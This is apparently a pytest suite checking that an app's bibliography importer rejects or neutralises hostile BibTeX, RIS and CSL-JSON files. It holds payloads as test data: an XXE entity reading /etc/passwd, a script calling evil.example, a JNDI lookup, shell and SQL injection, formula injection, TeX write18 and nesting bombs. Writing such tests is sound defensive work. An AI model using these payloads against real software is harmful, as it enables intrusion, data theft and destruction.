"""Bibliographies made to do harm are refused, or are nothing but text."""

import json

import pytest

from app.edits.evidence import add_sources
from app.edits.links import is_doi, is_web_address
from app.exchange.bibliography import FORMATS, BibliographyRefused, read_bibliography
from db.model import LINE_LIMIT, NAME_LIMIT, PROSE_LIMIT, check
from db.model.characters import is_plain
from tests.cases import small_case
from tests.unit.exchange.hostile.watching import harmless

# What comes in one of these is the same trap in every format.
NO_TEXT = {
    "empty": b"",
    "blank": b" \n\t\n" * 50,
    "zeros": b"\x00" * 1000,
    "every byte": bytes(range(256)) * 40,
    "utf-16": "@article{x, title={a}} TY  - JOUR [{}]".encode("utf-16"),
    "utf-32": "@article{x, title={a}} TY  - JOUR [{}]".encode("utf-32"),
    "overlong": b"@book{x, title={\xc0\xaf}}\nTY  - BOOK\nTI  - \xc0\xaf\nER  - \n",
    "half a character": b"@book{x, title={\xed\xa0\x80}}",
    "a zip": b"PK\x03\x04" + b"\x00" * 500,
    "a pdf": b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n",
    "a program": b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 100,
    "a web page": b"<!doctype html><script>fetch('//evil.example')</script>",
    "entities": b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>',
    "too large": b" " * 2_000_001,
    "a bell": b"@book{x, title={\x07}}\nTY  - BOOK\nTI  - \x07\nER  - \n",
    "an escape": b"@book{x, title={\x1b[2J}}\nTY  - BOOK\nTI  - \x1b[2J\nER  - \n",
    "a new line of old": b"@book{x, title={\xc2\x85}}\nTY  - BOOK\nTI  - \xc2\x85\nER  - \n",
}

# What would act, deceive or fill the room elsewhere, as the title, author, publisher or link.
VALUES = {
    "a formula": "=cmd|'/c calc'!A0",
    "a plus": "+1+1",
    "an at": "@SUM(A1)",
    "markup": "<img src=x onerror=alert(1)>",
    "reportlab markup": '<para><img src="file:///etc/passwd"/></para>',
    "a field of Word": "{ INCLUDETEXT C:\\secret.txt }",
    "a template": "{{7*7}} ${jndi:ldap://evil.example/a} %(x)s {0.__class__}",
    "a shell": "$(reboot); `reboot` | reboot & reboot",
    "sql": "'); DROP TABLE sources; --",
    "a path": "../../../../etc/passwd",
    "a share": "\\\\evil.example\\share\\x",
    "a traversal in a link": "https://example.org/../../etc/passwd",
    "percent signs": "%s%s%s%n%n%n",
    "an override": "report\u202efdp.exe",
    "an isolate": "\u2066open",
    "joiners": "a\u200d\u200cb\ufeffc",
    "not composed": "e\u0301" * 20,
    "marks in a heap": "Z" + "\u0351" * 400,
    "private characters": "\ue000\uf8ff",
    "no characters": "\ufdd0\uffff",
    "beyond the plane": "\U0010fffd\U000e0041",
    "separators of lines": "a\u2028b\u2029c",
    "only marks": "\u2060\u3164",
    "long": "x" * 40_000,
    "many words": "word " * 8_000,
    "digits": "9" * 5_000,
    "a date": "2026-99-99",
    "year zero": "0000",
    "infinity": "1e999",
    "braces": "}{" * 30,
    "backslashes": "\\" * 60,
    "tex that reads": "\\input{/etc/passwd}",
    "tex that writes": "\\immediate\\write18{reboot}",
    "tex that loops": "\\def\\a{\\a}\\a",
    "quotes": "\"'" * 40,
}
LINKS = {
    "a script": "javascript:alert(1)",
    "a file": "file:///etc/passwd",
    "data": "data:text/html;base64,PHNjcmlwdD4=",
    "a program's own": "ms-msdt:/id PCWDiagnostic",
    "smb": "smb://evil.example/x",
    "somebody's name": "https://bank.example@evil.example/",
    "letters alike": "https://ex\u0430mple.org/",
    "an address within": "http://[::1",
    "a space": "https://example.org/a b",
    "a line end": "https://example.org/%0d%0aX: y",
    "no host": "https:///x",
    "long": "https://example.org/" + "x" * 5_000,
}


def as_bib(**fields: str) -> bytes:
    inside = ", ".join(f"{name} = {{{text}}}" for name, text in fields.items())
    return f"@article{{x, {inside}}}".encode("utf-8", "surrogatepass")


def as_ris(**fields: str) -> bytes:
    tags = {"title": "TI", "author": "AU", "journal": "JO", "url": "UR", "year": "PY"}
    lines = "".join(f"{tags[name]}  - {text}\n" for name, text in fields.items())
    return f"TY  - JOUR\n{lines}ER  - \n".encode("utf-8", "surrogatepass")


def as_csl(**fields: str) -> bytes:
    names = {"author": "author", "journal": "container-title", "url": "URL", "year": "issued"}
    item: dict[str, object] = {"type": "article-journal"}
    for name, text in fields.items():
        value: object = text
        if name == "author":
            value = [{"literal": text}]
        elif name == "year":
            value = {"raw": text}
        item[names.get(name, name)] = value
    return json.dumps([item]).encode()


WRITTEN = {"bib": as_bib, "ris": as_ris, "csl": as_csl}
DOUBLING = "@string{a0 = {xxxxxxxxxx}}" + "".join(
    f"@string{{a{i} = a{i - 1} # a{i - 1}}}" for i in range(1, 60)
)
OWN = {
    "bib": {
        "doubling": (DOUBLING + "@article{x, title = a59}").encode(),
        "a circle": b"@string{a = b}@string{b = a}@article{x, title = a}",
        "deep braces": b"@article{x, title = " + b"{" * 50_000 + b"}" * 50_000 + b"}",
        "never closed": b"@article{x, title = {" + b"{" * 50_000,
        "many beginnings": b"@" * 100_000,
        "many fields": b"@book{x," + b"".join(b"f%d={1}," % i for i in range(50_000)) + b"}",
        "one key twice": b"@book{x, title={a}}@book{x, title={b}}",
        "crossed with itself": b"@book{x, title={a}, crossref={x}}",
        "a preamble": b'@preamble{"\\input{/etc/passwd}"}@book{x, title={a}}',
        "too many works": b"".join(b"@book{k%d,title={t}}" % i for i in range(6_000)),
    },
    "ris": {
        "many types": b"TY  - JOUR\n" * 50_000,
        "many ends": b"ER  - \n" * 50_000,
        "never ended": b"TY  - JOUR\nTI  - a\n",
        "a heap of authors": b"TY  - JOUR\nTI  - a\n" + b"AU  - A, B\n" * 50_000 + b"ER  - \n",
        "a long tag": b"TY  - JOUR\n" + b"T" * 100_000 + b"  - x\nER  - \n",
        "tags within": b"TY  - TY  - TY  - JOUR\nTI  - ER  - \nER  - \n",
        "too many works": b"TY  - BOOK\nTI  - t\nER  - \n" * 6_000,
    },
    "csl": {
        "deep lists": b"[" * 200_000,
        "deep objects": b'{"a":' * 200_000,
        "deep and closed": b"[" * 100_000 + b"]" * 100_000,
        "a deep title": b'[{"title": ' + b"[" * 50_000 + b"]" * 50_000 + b"}]",
        "one key many times": b"[{" + b",".join([b'"title":"a"'] * 50_000) + b"}]",
        "not a number": b'[{"title": "a", "issued": {"date-parts": [[NaN]]}}]',
        "a large number": b'[{"title": "a", "issued": {"date-parts": [[1e999]]}}]',
        "digits without end": b'[{"title": "a", "volume": ' + b"9" * 100_000 + b"}]",
        "a number as title": b'[{"title": 7}]',
        "names as numbers": b'[{"title": "a", "author": [1, null, [], {"family": {}}]}]',
        "half a character": b'[{"title": "\\ud800"}]',
        "zero in text": b'[{"title": "\\u0000"}]',
        "too many works": json.dumps([{"title": "t"}] * 6_000).encode(),
        "prototype": b'[{"__proto__": {"title": "x"}, "constructor": 1}]',
    },
}


def inputs(name: str) -> dict[str, bytes]:
    """Everything that is tried on a format, by what it is."""
    write = WRITTEN[name]
    made = {f"title: {what}": write(title=value) for what, value in VALUES.items()}
    made |= {
        f"elsewhere: {what}": write(title="A", author=value, journal=value, year=value)
        for what, value in VALUES.items()
    }
    made |= {f"link: {what}": write(title="A", url=value) for what, value in LINKS.items()}
    return NO_TEXT | made | OWN[name]


for _name, _write in WRITTEN.items():
    read_bibliography(_write(title="A"), _name)  # loads what reading takes, before it is watched
EVERY = [(form.name, what) for form in FORMATS for what in inputs(form.name)]


@pytest.mark.parametrize("name", WRITTEN)
def test_there_are_fifty(name):
    assert len(inputs(name)) >= 50


@pytest.mark.parametrize(("name", "what"), EVERY)
def test_it_is_refused_in_a_sentence_or_is_nothing_but_text(name, what):
    data = inputs(name)[what]
    with harmless():
        try:
            found = read_bibliography(data, name)
        except BibliographyRefused as refused:
            sentence = str(refused)
            assert sentence.endswith(".")
            assert len(sentence) < 300
            assert is_plain(sentence)
            return
    assert what not in NO_TEXT
    assert_harmless(found)


@pytest.mark.parametrize(("name", "what"), [(n, w) for n in WRITTEN for w in NO_TEXT])
def test_what_is_no_text_of_the_format_is_refused(name, what):
    with harmless(), pytest.raises(BibliographyRefused):
        read_bibliography(NO_TEXT[what], name)


@pytest.mark.parametrize("name", WRITTEN)
@pytest.mark.parametrize("what", LINKS)
def test_no_link_comes_in_that_does_not_lead_to_a_page(name, what):
    found = read_bibliography(WRITTEN[name](title="A", url=LINKS[what]), name)
    (source,) = found.sources
    assert not source.link or is_web_address(source.link)


def assert_harmless(found):
    """Every source could stand in an assessment, and no link leads to anything but a page."""
    check(add_sources(small_case(), found.sources))
    for row in found.sources:
        assert 0 < len(row.name) <= NAME_LIMIT
        assert max(len(row.authors), len(row.published), len(row.link)) <= LINE_LIMIT
        assert len(row.note) <= PROSE_LIMIT
        assert not row.link or is_doi(row.link) or is_web_address(row.link)
    assert all(map(is_plain, found.remarks))
